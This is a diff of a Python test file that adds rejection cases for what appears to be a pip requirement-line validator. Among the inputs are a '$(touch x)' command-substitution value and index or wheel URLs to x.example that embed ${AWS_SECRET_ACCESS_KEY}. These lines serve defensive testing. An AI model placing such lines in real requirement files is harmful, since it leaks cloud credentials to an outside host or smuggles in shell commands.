@@ -129,6 +129,11 @@ def test_an_example_outside_the_package_is_none(make_folder: MakeFolder) -> None
         ("numpy==1\x1b[2J", "not understood"),
         ("$(touch x)", "not understood"),
         ("numpy==1; python_version > '3' $(x)", "not understood"),
+        ("--index-url https://x.example/${AWS_SECRET_ACCESS_KEY}/simple", "variables of your environment"),
+        ("a @ https://x.example/${AWS_SECRET_ACCESS_KEY}/a-1-py3-none-any.whl", "variables of your environment"),
+        ("numpy" + " " * 3000 + "!", "longer than 2000"),
+        ("numpy ==1" + " " * 1900 + "!", "not understood"),
+        ("--" + "x" * 3000, "longer than 2000"),
     ],
 )
 def test_what_a_model_does_not_get(make_folder: MakeFolder, line: str, words: str) -> None:
